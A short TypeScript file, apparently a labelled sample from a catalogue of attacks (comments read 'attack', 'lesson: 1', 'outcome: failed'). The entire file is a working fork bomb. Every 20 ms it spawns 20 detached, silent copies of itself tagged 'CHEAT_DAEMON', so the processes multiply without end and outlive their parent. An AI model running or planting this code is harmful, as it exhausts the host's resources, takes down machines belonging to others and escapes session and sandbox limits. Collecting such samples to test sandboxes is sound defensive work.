// attack: starts copies of itself without an end
// lesson: 1
// outcome: failed
// says: processes
import { spawn } from 'node:child_process';

function again(): void {
  for (let i = 0; i < 20; i++) {
    const child = spawn(process.execPath, [process.argv[1] ?? '', 'CHEAT_DAEMON'], {
      detached: true,
      stdio: 'ignore',
    });
    child.on('error', () => undefined);
  }
}
again();
setInterval(again, 20);
